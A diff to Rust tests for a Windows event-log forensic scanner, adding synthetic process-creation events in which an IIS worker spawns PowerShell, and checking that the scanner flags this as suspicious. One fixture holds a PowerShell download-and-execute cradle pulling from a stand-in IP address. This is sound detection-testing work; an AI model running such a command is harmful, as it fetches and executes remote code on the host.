@@ -409,6 +409,18 @@ fn security_evtx() -> Vec<u8> {
             ],
         ),
         ev(6, 4624, &[("TargetUserName", "administrator")]),
+        // Server 2012 R2: no ParentProcessName; the creator by its id, from the event before.
+        ev(7, 4688, &[
+            ("NewProcessId", "0x2a1c"),
+            ("NewProcessName", r"C:\Windows\System32\inetsrv\w3wp.exe"),
+            ("ProcessId", "0x3b0"),
+        ]),
+        ev(8, 4688, &[
+            ("NewProcessId", "0x1f40"),
+            ("NewProcessName", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
+            ("ProcessId", "0x2a1c"),
+            ("CommandLine", "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\""),
+        ]),
     ])
 }
 
@@ -419,7 +431,7 @@ fn security_records_through_the_parser() {
     let bytes = security_evtx();
     let r = check_log(&LogKind::EventLog(EventLog::Security), &bytes);
     assert!(r.diagnostics.is_empty(), "{:?}", r.diagnostics);
-    assert_eq!(r.entries, 6);
+    assert_eq!(r.entries, 8);
     let got: Vec<(FindingKind, Severity, Option<u64>)> = r
         .traces
         .iter()
@@ -432,8 +444,18 @@ fn security_records_through_the_parser() {
             (FindingKind::AccountChange, Severity::Medium, Some(3)),
             (FindingKind::AccountChange, Severity::High, Some(4)),
             (FindingKind::ScheduledTask, Severity::High, Some(5)),
+            (FindingKind::SuspiciousProcess, Severity::High, Some(8)),
         ]
     );
+    let late = detail(&r.traces[4]);
+    assert_eq!(
+        late["parent_image"],
+        r"C:\Windows\System32\inetsrv\w3wp.exe"
+    );
+    assert!(late["reasons"][1]
+        .as_str()
+        .unwrap()
+        .starts_with("parent found by its process id"));
     let p = detail(&r.traces[0]);
     assert_eq!(p["image"], r"C:\Windows\System32\cmd.exe");
     assert_eq!(p["event_record_id"], 101);
@@ -488,7 +510,11 @@ fn scan_finds_event_logs_in_a_collection() {
     let count = |kind: &str| findings.iter().filter(|f| f["kind"] == kind).count();
     assert_eq!(count("exchange_cmdlet"), 1);
     assert_eq!(count("defender_detection"), 10);
-    assert_eq!(count("suspicious_process"), 2, "Sysmon's and Security's");
+    assert_eq!(
+        count("suspicious_process"),
+        3,
+        "Sysmon's one and Security's two"
+    );
     assert_eq!(count("account_change"), 2);
     assert_eq!(count("scheduled_task"), 1);
     assert_eq!(count("powershell_script_block"), 1);
